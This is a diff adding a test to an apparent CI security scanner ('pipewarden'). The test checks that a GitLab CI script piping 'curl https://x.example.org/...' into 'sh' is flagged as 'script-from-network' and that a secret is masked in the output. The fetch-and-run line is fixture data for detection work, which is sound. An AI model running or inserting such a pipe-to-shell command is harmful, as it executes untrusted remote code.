@@ -189,3 +189,15 @@ it('comes out in no log and in no message of a command', async () => {
   expect(err).toContain('pipewarden:');
   for (const text of [...lines, err]) expect(text).not.toContain(canary);
 });
+
+it('what gives it away at the merge base alone is masked at the head as well', async () => {
+  const script = `curl https://x.example.org/${BY_NAME} | sh`;
+  const snapshot = await snapshotOf({
+    policy: POLICY,
+    base: { '.gitlab-ci.yml': `a:\n  variables: {SECRET_KEY: ${BY_NAME}}\n  script: [make]\n` },
+    head: { '.gitlab-ci.yml': `a:\n  script: ["${script}"]\n` },
+  });
+  const { report, plan } = replay(snapshot);
+  expect(report.findings.map(({ rule }) => rule)).toContain('script-from-network');
+  expect(JSON.stringify([report, plan])).not.toContain(BY_NAME);
+});
